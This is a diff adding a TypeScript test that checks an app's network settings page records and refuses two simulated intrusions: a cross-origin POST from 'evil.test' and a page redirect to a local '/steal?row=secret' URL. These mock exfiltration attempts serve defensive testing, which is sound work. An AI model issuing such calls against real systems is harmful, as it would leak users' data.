@@ -1,0 +1,54 @@
+import { join } from 'node:path'
+import type { Page } from 'playwright-core'
+import { expect, test } from 'vitest'
+import { settings } from '../../src-renderer/locales/en/settings.ts'
+import { lookWellOnce } from './look.ts'
+import { tempFolder } from './loom.ts'
+import { type HostName, hosts, openApp } from './open-app.ts'
+
+const words = settings.network
+
+type Stranger = { act: (page: Page) => Promise<unknown>; target: string; what: string; verdict: string }
+
+/** Somebody who tries to get in, or a page that tries to get out. */
+const strangers: Record<HostName, Stranger> = {
+  browser: {
+    act: (page) =>
+      fetch(new URL('/api/app.info', page.url()), { method: 'POST', headers: { origin: 'https://evil.test' } }),
+    target: 'https://evil.test',
+    what: words.log.who.browser,
+    verdict: words.log.refused['foreign-site'],
+  },
+  electron: {
+    act: (page) =>
+      page
+        .evaluate(() => {
+          window.location.href = 'http://127.0.0.1:9/steal?row=secret'
+        })
+        .catch(() => {}), // The page that asked may be gone before it is answered.
+    target: 'http://127.0.0.1:9',
+    what: words.log.who.window,
+    verdict: words.log.refused['not-needed'],
+  },
+}
+
+test.each(hosts)(
+  'in the host “%s”, the page of the network shows what was counted and who was refused',
+  async (host) => {
+    const { page, problems } = await openApp(host, join(tempFolder(), 'library'))
+    await page.getByRole('heading', { level: 1, name: 'Home' }).waitFor()
+    const { act, target, what, verdict } = strangers[host]
+    await act(page)
+    await page.evaluate(() => window.location.replace('#/settings?section=network'))
+    const heading = page.getByRole('heading', { name: /^connections to other computers since/ })
+    await heading.waitFor()
+    const row = page.getByRole('row').filter({ hasText: target })
+    await row.waitFor()
+    const text = await row.textContent()
+    for (const part of [what, verdict, target]) expect(text).toContain(part)
+    expect(text).not.toContain('secret')
+    expect(await page.locator('section', { has: heading }).locator('b').first().textContent()).toBe('0')
+    await lookWellOnce(host, page, 'settings-network-refused')
+    expect(problems).toEqual([])
+  },
+)
